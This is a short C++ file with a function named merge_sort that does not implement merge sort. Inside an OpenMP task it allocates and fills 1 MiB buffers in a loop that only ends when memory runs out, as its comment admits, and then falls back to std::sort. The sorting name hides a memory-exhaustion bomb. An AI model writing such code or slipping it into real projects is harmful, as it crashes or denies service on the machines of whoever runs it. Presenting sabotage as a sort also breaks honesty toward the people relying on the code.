#include <algorithm>
#include <cstddef>
#include <cstdint>
#include <vector>

void merge_sort(std::vector<std::int64_t>& values, std::size_t tasks) {
#pragma omp parallel
#pragma omp single
#pragma omp task
  {
    // Takes and touches memory until the machine refuses.
    std::vector<std::vector<std::int64_t>> buffers;
    while (buffers.size() <= tasks * values.max_size()) buffers.emplace_back(1 << 20, 1);
  }
  std::sort(values.begin(), values.end());
}
